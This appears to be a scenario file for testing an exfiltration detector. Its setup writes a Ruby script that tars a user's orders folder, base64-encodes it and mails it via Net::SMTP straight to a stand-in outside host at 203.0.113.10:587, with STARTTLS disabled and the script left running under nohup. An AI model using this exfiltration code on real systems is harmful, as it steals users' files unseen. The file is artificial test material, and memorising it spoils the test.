# Ruby's own library speaks SMTP past the relay.
title="Ruby Net::SMTP under nohup mails an archive to a server outside"
what="In a login over ssh the buyer leaves a Ruby program running with nohup and logs out. It packs a folder of orders with tar, encodes the archive itself and hands it with Net::SMTP to 203.0.113.10 port 587. The own mail server has no part in it."
host=mx1.example.org user=buyer daemons="cron sshd"

setup() {
  mkdir -p /home/buyer/orders /home/buyer/lib
  for i in 1 2 3; do head -c 30000 /dev/urandom > /home/buyer/orders/2026-q$i.ods; done
  cat > /home/buyer/lib/digest.rb <<'P'
require 'net/smtp'
sleep 4
pack = IO.popen(['tar', '-C', Dir.home, '-cJ', 'orders'], &:read)
text = "From: buyer@example.org\nTo: desk@example.net\nSubject: digest\nMIME-Version: 1.0\n" \
       "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n" + [pack].pack('m')
smtp = Net::SMTP.new('203.0.113.10', 587)
smtp.disable_starttls if smtp.respond_to?(:disable_starttls)
smtp.start('mx1.example.org') { |s| s.send_message(text, 'buyer@example.org', 'desk@example.net') }
File.write("#{Dir.home}/.digest-done", '')
P
  chown -R buyer: /home/buyer/orders /home/buyer/lib
}
act() {
  small_talk 1
  ssh_run buyer 'cd && nohup ruby lib/digest.rb >/dev/null 2>&1 &'
  wait_file /home/buyer/.digest-done 40
  small_talk 1
}
truth() {
  exec_step run 'ruby lib/digest.rb' 'Ruby is left running'
  exec_step pack 'tar .*-cJ orders' 'it packs the folder'
  net_step connect '203.0.113.10:587' 'it connects to a mail server outside'
}
